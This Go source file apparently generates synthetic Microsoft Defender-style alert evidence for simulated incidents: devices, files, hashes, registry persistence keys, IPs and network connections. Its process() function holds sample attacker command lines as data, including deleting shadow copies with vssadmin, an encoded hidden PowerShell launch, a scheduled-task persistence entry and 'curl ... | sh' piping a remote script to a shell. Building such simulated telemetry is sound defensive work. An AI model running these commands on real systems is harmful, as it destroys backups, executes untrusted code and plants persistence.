package estate

import "time"

// endpointFields are those of devices, files, processes and the network.
func (w *witness) endpointFields(kind string) object {
	mde := w.devices[0].mdeID
	switch kind {
	case "device":
		return w.device(0)
	case "file":
		return object{{"detectionStatus", w.detectionStatus()}, {"mdeDeviceId", mde}, {"fileDetails", w.file1()}}
	case "fileHash":
		return object{{"algorithm", "sha256"}, {"value", w.sha256}}
	case "process":
		return w.process()
	case "malware":
		return object{{"name", nullable(w.alert.Threat)}, {"category", "Trojan"},
			{"files", []object{{{"@odata.type", odataType("file")}, {"detectionStatus", "detected"}, {"mdeDeviceId", mde}, {"fileDetails", w.file1()}}}},
			{"processes", []object{append(object{{"@odata.type", odataType("process")}}, w.process()...)}}}
	case "registryKey":
		return object{{"registryHive", "HKEY_LOCAL_MACHINE"}, {"registryKey", `SOFTWARE\Microsoft\Windows\CurrentVersion\Run`}}
	case "registryValue":
		return object{{"registryHive", "HKEY_CURRENT_USER"}, {"registryKey", `SOFTWARE\Microsoft\Windows\CurrentVersion\RunOnce`},
			{"registryValue", `C:\Users\Public\` + w.file}, {"registryValueName", "Updater"}, {"registryValueType", "String"}, {"mdeDeviceId", mde}}
	case "ip":
		return w.address(w.ip, w.country, w.city)
	case "url":
		return object{{"url", w.url}}
	case "dns":
		return object{{"domainName", w.domain}, {"ipAddresses", []object{w.nestedIP(w.ip)}}, {"hostIpAddress", w.nestedIP(w.devices[0].ip)}, {"dnsServerIp", nil}}
	case "networkConnection":
		return object{{"protocol", "tcp"}, {"sourceAddress", w.nestedIP(w.devices[0].ip)}, {"sourcePort", w.between(49152, 65535)},
			{"destinationAddress", w.nestedIP(w.ip)}, {"destinationPort", pick(w.rng, []int{443, 80, 8080, 4444})}}
	default:
		panic("estate: no such evidence: " + kind)
	}
}

func (w *witness) detectionStatus() string {
	return pick(w.rng, []string{"detected", "detected", "blocked", "prevented"})
}

// device describes the n-th device of the scene; gaps are as common as in reality.
func (w *witness) device(n int) object {
	d, t := w.devices[n%len(w.devices)], w.tenant
	var vm, aad, external any
	if d.os == "WindowsServer2022" || d.os == "Linux" {
		sub := StableGUID("subscription", t.Code)
		vm = object{{"vmId", StableGUID("vm", d.mdeID)}, {"cloudProvider", "azure"}, {"subscriptionId", sub},
			{"resourceId", "/subscriptions/" + sub + "/resourceGroups/prod/providers/Microsoft.Compute/virtualMachines/" + slug(d.name)}}
	} else {
		aad = d.aadID
	}
	if w.chance(0.5) {
		external = w.publicIP()
	}
	domain := slug(t.Name) + ".local"
	return object{
		{"firstSeenDateTime", w.alert.Created.Add(-time.Duration(w.between(30, 900)) * 24 * time.Hour)}, {"mdeDeviceId", d.mdeID}, {"azureAdDeviceId", aad},
		{"deviceDnsName", d.name + "." + domain}, {"hostName", d.name}, {"ntDomain", nil}, {"dnsDomain", domain}, {"osPlatform", d.os},
		{"osBuild", pick(w.rng, []any{22631, 26100, 20348, 19045, nil})}, {"version", pick(w.rng, []string{"23H2", "24H2", "21H2", "Other"})},
		{"healthStatus", pick(w.rng, []string{"active", "active", "active", "inactive", "impairedCommunication", "noSensorData"})},
		{"riskScore", pick(w.rng, []string{"none", "informational", "low", "medium", "high"})}, {"rbacGroupId", w.between(0, 90)},
		{"rbacGroupName", pick(w.rng, []any{"Workstations", "Servers", "UnassignedGroup", nil})}, {"onboardingStatus", "onboarded"},
		{"defenderAvStatus", pick(w.rng, []string{"updated", "updated", "notUpdated", "unknown", "disabled"})},
		{"lastIpAddress", d.ip}, {"lastExternalIpAddress", external}, {"ipInterfaces", []string{d.ip, "fe80::1", "127.0.0.1"}},
		{"loggedOnUsers", []object{{{"accountName", w.users[0].account}, {"domainName", w.ntDomain()}}}},
		{"vmMetadata", vm}, {"resourceAccessEvents", []object{}},
	}
}

func (w *witness) file1() object {
	var signer any
	if w.chance(0.3) {
		signer = "Fabricated Code Signing CA"
	}
	return object{{"fileName", w.file}, {"filePath", `C:\Users\` + w.users[0].account + `\Downloads`}, {"fileSize", w.between(900, 9_000_000)},
		{"sha1", w.sha1}, {"sha256", w.sha256}, {"md5", w.md5}, {"sha256Ac", nil}, {"filePublisher", nil}, {"signer", signer}, {"issuer", nil}}
}

func (w *witness) process() object {
	at := w.alert.First
	command := pick(w.rng, []string{"powershell.exe -NoP -W Hidden -Enc SQBFAFgA", "cmd.exe /c vssadmin delete shadows /all /quiet",
		"rundll32.exe {file},Start", "schtasks /create /tn Updater /tr {file} /sc minute", "curl -s https://{domain}/a.sh | sh"})
	return object{
		{"processId", w.between(400, 30_000)}, {"parentProcessId", w.between(400, 30_000)}, {"processCommandLine", w.fill(command)},
		{"processCreationDateTime", at}, {"parentProcessCreationDateTime", at.Add(-time.Hour)}, {"detectionStatus", w.detectionStatus()},
		{"mdeDeviceId", w.devices[0].mdeID}, {"imageFile", w.file1()},
		{"parentProcessImageFile", object{{"fileName", "explorer.exe"}, {"filePath", `C:\Windows`}, {"fileSize", nil}, {"sha1", nil}, {"sha256", nil}, {"filePublisher", "Microsoft Corporation"}, {"signer", nil}, {"issuer", nil}}},
		{"userAccount", w.account(w.users[0])},
	}
}

func (w *witness) address(ip, country, city string) object {
	var location any
	if country != "" && w.chance(0.7) {
		location = object{{"city", city}, {"state", nil}, {"countryName", country}, {"latitude", float64(w.between(-60, 60))}, {"longitude", float64(w.between(-170, 170)) + 0.25}}
	}
	return object{{"ipAddress", ip}, {"countryLetterCode", nullable(country)}, {"location", location}, {"stream", nil}}
}

// nestedIP is an address inside other evidence.
func (w *witness) nestedIP(ip string) object {
	return append(object{{"@odata.type", odataType("ip")}}, w.address(ip, "", "")...)
}
